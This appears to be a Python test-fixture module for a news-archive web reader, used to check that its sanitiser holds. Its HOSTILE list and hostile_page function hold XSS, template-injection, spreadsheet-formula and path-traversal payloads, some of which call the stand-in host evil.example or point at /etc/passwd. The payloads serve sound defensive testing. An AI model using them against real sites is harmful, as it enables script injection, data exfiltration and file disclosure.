"""A reading room served on loopback by the real server, and archives to read there."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import timedelta
from typing import Any

import httpx
import uvicorn
from archive_fixtures import ARTICLE, AT, PHOTO, URL, after, make_capture, picture, put, writing

from archive.article import Article, Attachment, Image, Listed, Problem
from archive.coverage import Visit
from archive.folder import Folder
from archive.site_visits import SiteVisit
from archive.web.app import make_app
from archive.web.settings import Settings

PAGE = f"""<html><head><title>x</title><script>alert(1)</script></head><body>
<form action="/"><h1>Hội nghị Ban Chấp hành</h1><img src="{PHOTO}" onerror="alert(1)">
<img src="https://elsewhere.example/tracker.gif"><a href="https://elsewhere.example/">xem</a>
<p style="color:red;background:url(https://elsewhere.example/x)">Nội dung</p></form></body>"""
OTHER = "https://tplaocai.laocai.gov.vn/tin-tuc/duong-giao-thong-618500"


@contextmanager
def served(folder: Folder, **settings: Any) -> Iterator[httpx.Client]:
    """A client of the reading room over `folder`; redirects are not followed."""
    app = make_app(Settings(folder=folder, **settings), looks=False)
    listening = socket.create_server(("127.0.0.1", 0))
    config = uvicorn.Config(app, log_level="error", access_log=False, lifespan="on")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    port = listening.getsockname()[1]
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=30) as client:
            yield client
    finally:
        server.should_exit = True
        thread.join(timeout=20)
        listening.close()


def fill(folder: Folder) -> Folder:
    """An article edited once, its page captured, with a photo replaced; one gone; a problem."""
    with writing(folder, manifest={"sites": [{"name": "tplaocai"}]}) as store:
        capture = make_capture(payload=PAGE.encode())
        capture_id = store.record_capture(capture)
        first = put(store, ARTICLE, capture_id=capture_id)
        site_id = store.record_site(
            name="tplaocai", host="tplaocai.laocai.gov.vn", url="https://tplaocai.laocai.gov.vn/"
        )
        store.begin_visit(site_id, at=AT, is_crawl=True, is_whole=False)
        store.end_visit(site_id, SiteVisit(state="unreachable", detail="no answer in time"))
        store.record_closing(site_id, "cổng ngừng hoạt động", seen_at=AT)
        section = store.record_section(site_id, name="Tin tức", url=f"{URL.rpartition('/')[0]}")
        store.record_listing(section, [Listed(key="618434", url=URL)], seen_at=AT)
        store.record_visit(
            Visit(
                section_id=section,
                pages=1,
                promised_pages=1,
                listed=1,
                unknown=1,
                reached="end",
                has_gap=False,
            )
        )
        store.record_media(PHOTO, picture(size=(64, 48)), seen_at=AT)
        store.record_media(ARTICLE.attachments[0].url, b"%PDF-1.4 x", seen_at=AT)
        put(store, _other())
        store.record_problem(
            Problem(kind="http_404", url=f"{URL}-x", detail="the server answered 404", seen_at=AT),
            site_id=site_id,
        )
        store.finish("partial", finished_at=after(minutes=5))
    with writing(folder, at=after(days=1)) as store:
        edited = replace(
            ARTICLE,
            title=f"{ARTICLE.title} lần thứ mười",
            paragraphs=(ARTICLE.paragraphs[0], "Thu ngân sách đạt 6.120/4.500 tỷ đồng."),
        )
        put(store, edited, at=after(days=1), capture_id=capture_id)
        store.finish("done", finished_at=after(days=1, minutes=5))
    assert first.version == 1
    return folder


def _other() -> Article:
    return replace(
        ARTICLE,
        url=OTHER,
        title="Mở rộng đường giao thông nông thôn",
        section="Kinh tế",
        summary=None,
        paragraphs=("Con đường dài 12 km.", "=1+1", "Dương Văn A nói."),
        published_at=AT - timedelta(days=400),
        images=(Image(url=PHOTO, caption="Đường mới mở", position=0),),
        attachments=(Attachment(url="https://x.vn/%22a.pdf", label=None),),
    )


HOSTILE = (
    "<script>window.ran=1;fetch('https://evil.example/a')</script>",
    '"><img src=https://evil.example/b onerror=window.ran=1>',
    "'\"><svg onload=window.ran=1><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "javascript:window.ran=1",
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
    "</title></textarea></style></script><iframe srcdoc='<script>parent.ran=1</script>'>",
    "[-<img src=x onerror=window.ran=1>-]{+<b>[x]</b>+}",
    '=HYPERLINK("https://evil.example","x")',
    "<style>@import 'https://evil.example/c';</style><link rel=stylesheet href=//evil.example/d>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "../../../../etc/passwd",
)


def hostile_articles() -> Iterator[Article]:
    """One article for each payload, which stands in every field that may hold text."""
    for number, payload in enumerate(HOSTILE):
        address = "https://evil.example/?" + "".join(f"%{byte:02x}" for byte in payload.encode())
        yield replace(
            ARTICLE,
            url=f"https://doc.gov.vn/tin/{payload.encode().hex()[:40]}-{700_000 + number}",
            site="doc",
            title=f"{payload} từ khóa",
            section=payload,
            summary=payload,
            author=payload,
            source=payload,
            published_raw=payload,
            paragraphs=(payload, f"từ khóa {payload}"),
            images=(
                Image(url=PHOTO, caption=payload, credit=payload, alt=payload, position=0),
                Image(url=f"{address}.jpg", caption=payload, position=1),
            ),
            attachments=(Attachment(url=address, label=payload),),
        )


def hostile_page() -> bytes:
    """A page of everything that was ever used against a sanitiser in one document."""
    body = "".join(HOSTILE) + (
        "<img src='https://evil.example/e.png'><img srcset='https://evil.example/f.png 2x'>"
        "<a href='javascript:window.ran=1'>x</a><a href=//evil.example ping=//evil.example>y</a>"
        "<body onload=window.ran=1 background=https://evil.example/g>"
        "<table background=//evil.example/h><td style=\"background:url('//evil.example/i')\">z"
        "<video poster=//evil.example/j src=//evil.example/k autoplay></video>"
        "<object data=//evil.example/l></object><embed src=//evil.example/m>"
        "<form action=//evil.example><input autofocus onfocus=window.ran=1></form>"
        "<template><img src=x onerror=window.ran=1></template><noscript><img src=//evil.example/n>"
    )
    return f"<!doctype html><html><head><title>t</title></head><body>{body}".encode()


def fill_with_hostility(folder: Folder) -> Folder:
    """Payloads in every field, twice, so that there are differences; hostile files and a page."""
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.ran=1'><script>1</script></svg>"
    with writing(folder) as store:
        capture = store.record_capture(make_capture(payload=hostile_page()))
        for article in hostile_articles():
            put(store, article, capture_id=capture)
            store.record_media(article.attachments[0].url, b"<html><script>1</script>", seen_at=AT)
            store.record_media(article.images[1].url, svg, seen_at=AT)
        store.record_media(PHOTO, picture(size=(64, 48)), seen_at=AT)
        for number, payload in enumerate(HOSTILE):
            problem = Problem(
                kind=payload[:30], url=f"javascript:{number}", detail=payload, seen_at=AT
            )
            store.record_problem(problem)
        store.finish("done", finished_at=AT)
    with writing(folder, at=after(days=1)) as store:
        for article in hostile_articles():
            edited = replace(article, paragraphs=(f"{article.title} khác", *article.paragraphs))
            put(store, edited, at=after(days=1), capture_id=capture)
        store.finish("done", finished_at=after(days=1))
    return folder
